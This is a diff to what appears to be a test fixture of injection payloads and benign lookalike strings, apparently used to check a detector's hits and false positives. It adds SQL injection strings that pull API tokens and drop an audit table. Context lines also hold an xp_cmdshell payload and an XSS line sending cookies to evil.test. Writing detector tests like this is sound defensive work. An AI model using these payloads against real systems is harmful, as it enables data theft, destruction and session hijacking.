@@ -42,6 +42,10 @@ SQLI = [
     "'; EXEC master..xp_cmdshell 'whoami'--",
     "1 OR 42=42",
     "' OR user_id IS NOT NULL --",
+    "x' AND name ILIKE name--",
+    "7 EXCEPT SELECT token FROM api_keys",
+    "DROP audit_log;--",
+    "demo' OR 5=",  # the application's closing quote completes the comparison
 ]
 XSS = [
     "<script>fetch('//evil.test/?c='+document.cookie)</script>",
@@ -139,6 +143,8 @@ BENIGN = [
     "Let's meet at 10:30; bring the slides",
     "(90h8VeTg%Fabh",  # a generated password with a percent sign
     "Save 100%; code C0FFEE",
+    "Everything except select members of staff",
+    "Please drop the ball; it's fine",
 ]
 
 
